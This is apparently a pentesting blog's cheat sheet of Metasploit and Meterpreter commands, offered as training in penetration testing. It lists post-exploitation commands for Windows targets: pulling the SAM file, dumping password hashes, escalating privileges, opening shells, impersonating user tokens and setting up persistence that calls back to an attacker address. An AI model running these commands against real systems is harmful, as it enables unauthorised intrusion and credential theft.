Metasploit Meterpreter Cheat Sheet

Learn the most useful commands for Metasploit and Meterpreter

Metasploit commands

Identify other machines that the supplied domain user has administrative access to

msf> run post/windows/gather/local_admin_search_enum

Communicate with a host, similar to interacting via netcat, taking advantage of any configured session pivoting:

msf> connect $TARGET $PORT

Uses SSL:

msf> connect -s $TARGET $PORT

Starts ruby shell:

msf> irb

Integrations with other tools:msf> load pcap, wmap, nessus

Run nmap from metasploit:

msf > nmap -v -sV -oA subnet_1

Show scan data:

msf> db_hosts
msf> db_vulnsmsf> db_exploited

Useful commands with Meterpreter

Upload file to Windows target:

meterpreter> upload file c:\\windows

Download file from Windows target:meterpreter> download c:\\windows\\repair\\sam /tmp

Run .exe on target (handy for executing uploaded exploits):

meterpreter> execute -f c:\\windows\\temp\\exploit.exe

Creates new channel with cmd shell:

meterpreter> execute -f cmd -c

Show processes:

meterpreter> psGet shell on the target:

meterpreter> shell

Attempts privilege escalation on the target:

meterpreter> getsystem

Attempts to dump the hashes on the target:

meterpreter> hashdump
meterpreter> credcollect

Create port forward to target machine:

meterpreter> portfwd add –l 3389 –p 3389 –r $IP

Delete port forward:

meterpreter> portfwd delete –l 3389 –p 3389 –r $IP

Search excel files on target machine:

meterpreter> search -f *.xlsx

Get user id:

meterpreter> getuid

Check whether arch == meterpreter or migrate to x64 process!!meterpreter> sysinfo

Meterpreter persistence mode

meterpreter> run persistence -U -i 5 -p 443 -r $IP

Impersonate any user

meterpreter> use incognito
meterpreter> list_tokens -umeterpreter> impersonate_token MACHINE\\user
meterpreter> drop_token

Thanks for reading Learn Pentesting like a Pro! Subscribe for free to receive new posts.






Leave a Reply

Your email address will not be published.Required fields are marked *